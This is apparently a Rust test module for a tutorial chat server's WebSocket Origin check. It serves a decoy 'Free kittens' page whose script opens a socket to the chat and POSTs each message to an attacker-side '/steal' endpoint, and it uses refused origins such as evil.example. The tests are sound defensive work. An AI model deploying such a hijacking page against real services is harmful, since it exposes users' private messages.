//! Stage 10: the Origin check. A browser lets any page open a WebSocket to any server, and says
//! which page asks in the handshake's `Origin` header. The server accepts handshakes with no
//! Origin (no browser), from its own page's origin (`http://` and the `Host` asked for), and from
//! each `--allow-origin`; any other, a malformed one included, gets 403 and a plain-text reason,
//! before any WebSocket exists, and nobody else notices.
//!
//! The last scenario plays the attack of cross-site WebSocket hijacking with two origins: a
//! "foreign" page served on another port ([`ForeignPage`], which the book can serve too) whose
//! script opens a socket to the chat. The test plays the visitor's browser: it loads the page and
//! does the handshake its script asks for, with the Origin a browser would send.

use std::net::SocketAddr;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
    task::JoinHandle,
};

use crate::{
    Target, TestServer, WAIT,
    faults::{RawClient, Refusal},
    health::assert_healthy,
    http, scenarios,
};

pub const SCENARIOS: &[crate::Scenario] = scenarios![
    a_handshake_without_origin_is_accepted,
    a_handshake_from_our_own_page_is_accepted,
    a_foreign_origin_is_refused_with_403_and_nobody_else_notices,
    a_malformed_origin_is_refused_with_403,
    allowed_origins_are_accepted,
    localhost_and_127_0_0_1_are_different_origins,
    a_page_on_another_origin_cannot_open_a_socket_to_the_chat,
];

/// Tries the handshake with `headers` added; `Ok(())` for `101`, `Err` with the refusal.
async fn handshake(addr: SocketAddr, name: &str, headers: &[(&str, &str)]) -> Result<(), Refusal> {
    RawClient::try_connect_with_headers(addr, name, headers)
        .await
        .map(drop)
}

/// Asserts `outcome` is a 403 in plain text whose body contains `says`.
fn assert_forbidden(outcome: Result<(), Refusal>, says: &str, why: &str) {
    match outcome {
        Ok(()) => panic!("{why}: the handshake should be refused with 403, it was accepted"),
        Err(refusal) => {
            assert_eq!(
                refusal.status, 403,
                "{why}: expected 403:\n{}",
                refusal.head
            );
            assert!(
                refusal.head.to_ascii_lowercase().contains("text/plain"),
                "{why}: the refusal should be plain text:\n{}",
                refusal.head
            );
            assert!(
                refusal.body.contains(says),
                "{why}: the refusal should say {says:?}: {:?}",
                refusal.body
            );
        }
    }
}

/// A client that sends no Origin (no browser sends none: this is `nc`, a script, a test) is
/// accepted.
async fn a_handshake_without_origin_is_accepted(target: Target) {
    let server = TestServer::start(target).await;
    if let Err(refusal) = handshake(server.addr, "script", &[]).await {
        panic!(
            "no Origin should be accepted, got {}:\n{}",
            refusal.status, refusal.head
        );
    }
}

/// A handshake from the page the server itself serves, whose origin is `http://` and the address
/// the browser asked for (`Host`), is accepted.
async fn a_handshake_from_our_own_page_is_accepted(target: Target) {
    let server = TestServer::start(target).await;
    let own = format!("http://{}", server.addr);
    if let Err(refusal) = handshake(server.addr, "own page", &[("Origin", &own)]).await {
        panic!(
            "our own origin {own} should be accepted, got {}:\n{}",
            refusal.status, refusal.head
        );
    }
}

/// A handshake from another origin gets 403 with a reason naming it (and the flag that would
/// allow it); the clients connected are not disturbed, and the server goes on accepting others.
async fn a_foreign_origin_is_refused_with_403_and_nobody_else_notices(target: Target) {
    let server = TestServer::start(target).await;
    let mut alice = server.client("alice").await;
    let mut bob = server.client("bob").await;
    for foreign in [
        "http://evil.example",
        "https://evil.example:8443",
        // Our own host and port, but served over https: another origin.
        &format!("https://{}", server.addr),
        // Our own host, another port.
        &format!(
            "http://127.0.0.1:{}",
            server.addr.port().wrapping_add(1).max(1)
        ),
    ] {
        let outcome = handshake(server.addr, "foreign", &[("Origin", foreign)]).await;
        assert_forbidden(outcome, "--allow-origin", foreign);
    }
    alice.send_text("nothing happened").await;
    bob.expect_text("nothing happened").await;
    assert_healthy(server.addr, "foreign origins").await;
}

/// An Origin header that names no origin the server can compare is refused with 403 too: `null`
/// (a sandboxed frame, a file), a path after the origin, garbage.
async fn a_malformed_origin_is_refused_with_403(target: Target) {
    let server = TestServer::start(target).await;
    let own = format!("http://{}", server.addr);
    for malformed in [
        "null",
        &format!("{own}/"),
        &format!("{own}/chat"),
        "127.0.0.1",
        "http://",
        "ws://127.0.0.1",
    ] {
        let outcome = handshake(server.addr, "malformed", &[("Origin", malformed)]).await;
        assert_forbidden(outcome, "Origin", malformed);
    }
    assert_healthy(server.addr, "malformed origins").await;
}

/// Each `--allow-origin` (the flag repeats) is accepted besides our own origin, compared as an
/// origin (case, a default port written out); any other is still refused.
async fn allowed_origins_are_accepted(target: Target) {
    let flags = [
        "--allow-origin",
        "http://localhost:8080",
        "--allow-origin",
        "https://chat.example",
    ];
    let server = TestServer::start_with(target, &flags).await;
    for allowed in [
        "http://localhost:8080",
        "https://chat.example",
        "HTTPS://Chat.Example:443",
    ] {
        if let Err(refusal) = handshake(server.addr, "allowed", &[("Origin", allowed)]).await {
            panic!(
                "{allowed} is allowed, yet got {}:\n{}",
                refusal.status, refusal.head
            );
        }
    }
    for refused in ["http://localhost:8081", "http://chat.example"] {
        let outcome = handshake(server.addr, "not allowed", &[("Origin", refused)]).await;
        assert_forbidden(outcome, refused, refused);
    }
}

/// `localhost` and `127.0.0.1` are two origins, to a browser and to the server: a page opened as
/// `http://localhost:PORT` may connect to `localhost:PORT`, but not to `127.0.0.1:PORT`, and the
/// other way round (`--allow-origin` can say otherwise).
async fn localhost_and_127_0_0_1_are_different_origins(target: Target) {
    let server = TestServer::start(target).await;
    let port = server.addr.port();
    let localhost = format!("localhost:{port}");
    let numeric = format!("127.0.0.1:{port}");
    let as_localhost = format!("http://{localhost}");
    let as_numeric = format!("http://{numeric}");
    let same = handshake(
        server.addr,
        "localhost page",
        &[("Host", &localhost), ("Origin", &as_localhost)],
    )
    .await;
    assert!(
        same.is_ok(),
        "a localhost page asking localhost is its own origin: {same:?}"
    );
    let crossed = handshake(
        server.addr,
        "localhost page",
        &[("Host", &numeric), ("Origin", &as_localhost)],
    )
    .await;
    assert_forbidden(crossed, &as_localhost, "a localhost page asking 127.0.0.1");
    let crossed = handshake(
        server.addr,
        "numeric page",
        &[("Host", &localhost), ("Origin", &as_numeric)],
    )
    .await;
    assert_forbidden(crossed, &as_numeric, "a 127.0.0.1 page asking localhost");
}

// ANCHOR: foreign_page
/// A page served from another origin than the chat's: a one-file web server on its own port,
/// whose page's script opens a WebSocket to the chat, as an attacker's page would from the
/// browser of whoever visits it. Stops when dropped.
pub struct ForeignPage {
    /// Where the page is served: its origin is `http://` and this.
    pub addr: SocketAddr,
    task: JoinHandle<()>,
}

/// A [`ForeignPage`]'s port, bound but not serving yet: its origin is known before the chat
/// starts, for a chat that is to allow it.
pub struct ForeignPort {
    listener: TcpListener,
    addr: SocketAddr,
}

impl ForeignPort {
    /// Binds `127.0.0.1` and a port the OS picks.
    pub async fn bind() -> ForeignPort {
        let listener = TcpListener::bind("127.0.0.1:0")
            .await
            .expect("binding 127.0.0.1:0 for the foreign page");
        let addr = listener
            .local_addr()
            .expect("reading the foreign page's address");
        ForeignPort { listener, addr }
    }

    /// The origin of the page that will be served here.
    pub fn origin(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// Serves a page whose script connects to `ws://CHAT/ws` and would read (and send) what it
    /// likes there.
    pub fn serve(self, chat: SocketAddr) -> ForeignPage {
        let ForeignPort { listener, addr } = self;
        let page = format!(
            "<!doctype html>\n<title>Free kittens</title>\n<p>Nothing to see here.</p>\n\
             <script>\n  const socket = new WebSocket(\"ws://{chat}/ws\");\n  \
             socket.onmessage = (event) => fetch(\"/steal\", {{ method: \"POST\", body: event.data }});\n\
             </script>\n"
        );
        let task = tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                let page = page.clone();
                tokio::spawn(async move {
                    // Read the request head (whatever it asks for, the answer is the page).
                    let mut head = Vec::new();
                    let mut chunk = [0u8; 1024];
                    while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 16 << 10 {
                        match tokio::time::timeout(WAIT, socket.read(&mut chunk)).await {
                            Ok(Ok(read)) if read > 0 => head.extend_from_slice(&chunk[..read]),
                            _ => return,
                        }
                    }
                    let response = format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\
                         Content-Length: {}\r\nConnection: close\r\n\r\n{page}",
                        page.len()
                    );
                    let _ = socket.write_all(response.as_bytes()).await;
                    let _ = socket.shutdown().await;
                });
            }
        });
        ForeignPage { addr, task }
    }
}

impl ForeignPage {
    /// [`ForeignPort::bind`] and [`ForeignPort::serve`] at once.
    pub async fn serve(chat: SocketAddr) -> ForeignPage {
        ForeignPort::bind().await.serve(chat)
    }

    /// The page's origin, as a browser names it in the `Origin` of every request its script makes.
    pub fn origin(&self) -> String {
        format!("http://{}", self.addr)
    }
}

impl Drop for ForeignPage {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// What a browser does for a visitor of `page`: loads it, finds the WebSocket its script opens,
/// and does that handshake with the page's origin as `Origin`. Returns the URL and the outcome.
pub async fn visit(page: &ForeignPage) -> (String, Result<(), Refusal>) {
    let loaded = http::get(page.addr, "/").await;
    assert_eq!(loaded.status, 200, "the foreign page should load");
    let url = loaded
        .body
        .split("new WebSocket(\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap_or_else(|| panic!("the page should open a WebSocket: {}", loaded.body))
        .to_string();
    let target: SocketAddr = url
        .strip_prefix("ws://")
        .and_then(|rest| rest.strip_suffix("/ws"))
        .and_then(|addr| addr.parse().ok())
        .unwrap_or_else(|| panic!("expected ws://IP:PORT/ws in the page, got {url}"));
    let origin = page.origin();
    let outcome = handshake(target, "visitor's browser", &[("Origin", &origin)]).await;
    (url, outcome)
}
// ANCHOR_END: foreign_page

/// The attack, played with two origins. A page on another port (`http://127.0.0.1:OTHER`) has a
/// script that opens a socket to the chat; the visitor's browser does that handshake with the
/// page's origin, and the chat refuses it with 403, while its own page's handshake is accepted.
/// Only `--allow-origin` with that origin lets the foreign page in.
async fn a_page_on_another_origin_cannot_open_a_socket_to_the_chat(target: Target) {
    let chat = TestServer::start(target).await;
    let page = ForeignPage::serve(chat.addr).await;
    let mut alice = chat.client("alice").await;
    let (url, outcome) = visit(&page).await;
    assert_eq!(url, chat.ws_url(), "the page's script aims at the chat");
    assert_forbidden(outcome, &page.origin(), "the foreign page's socket");
    // The chat's own page, from the chat's own origin, is accepted.
    let own = format!("http://{}", chat.addr);
    assert!(
        handshake(chat.addr, "chat page", &[("Origin", &own)])
            .await
            .is_ok()
    );
    alice.expect_silence().await;
    drop(alice);
    drop(page);
    drop(chat);

    // The operator who means it allows the other origin, and the same page gets in.
    let port = ForeignPort::bind().await;
    let chat = TestServer::start_with(target, &["--allow-origin", &port.origin()]).await;
    let page = port.serve(chat.addr);
    let (_, outcome) = visit(&page).await;
    if let Err(refusal) = outcome {
        panic!(
            "--allow-origin {} should let the page in, got {}",
            page.origin(),
            refusal.status
        );
    }
}
